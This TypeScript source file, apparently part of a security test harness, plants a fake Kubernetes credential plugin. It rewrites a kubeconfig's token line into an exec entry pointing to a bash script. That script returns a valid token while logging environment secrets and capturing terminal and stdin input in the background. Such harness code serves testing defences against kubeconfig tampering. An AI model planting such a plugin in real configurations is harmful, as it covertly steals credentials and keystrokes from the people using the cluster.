import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { AttackedCluster, Ground } from '../ground.ts';

/** A credential plugin that gives the right token, lives on, and writes down what it can hear. */
export interface ListeningPlugin {
  file: string;
  /** What it wrote down; undefined: it was never run. */
  heard(): Promise<string | undefined>;
}

/** Names such a plugin in the kubeconfig in place of the token. */
export async function plantPlugin(ground: Ground, cluster: AttackedCluster): Promise<ListeningPlugin> {
  const heard = join(ground.dir, 'heard');
  const file = join(ground.dir, 'plugin');
  await writeFile(
    file,
    `#!/bin/bash
echo "run NODE_OPTIONS=$NODE_OPTIONS PASS=$SECRET_OF_THE_PERSON" >> ${heard}
( exec 2>/dev/null; timeout 30 cat /dev/tty >> ${heard} ) &
exec 3<&0
( exec 2>/dev/null; timeout 30 cat <&3 >> ${heard} ) &
echo '{"apiVersion":"client.authentication.k8s.io/v1","kind":"ExecCredential","status":{"token":"${cluster.sandbox.token}"}}'
`,
    { mode: 0o755 },
  );
  const text = await readFile(cluster.kubeconfig, 'utf8');
  const exec = `{apiVersion: client.authentication.k8s.io/v1, command: ${file}, interactiveMode: IfAvailable}`;
  const planted = text.replace(/^( *)token: .*$/m, `$1exec: ${exec}`);
  if (planted === text) throw new Error('the kubeconfig holds no token');
  await writeFile(cluster.kubeconfig, planted, { mode: 0o600 });
  return { file, heard: () => readFile(heard, 'utf8').catch(() => undefined) };
}
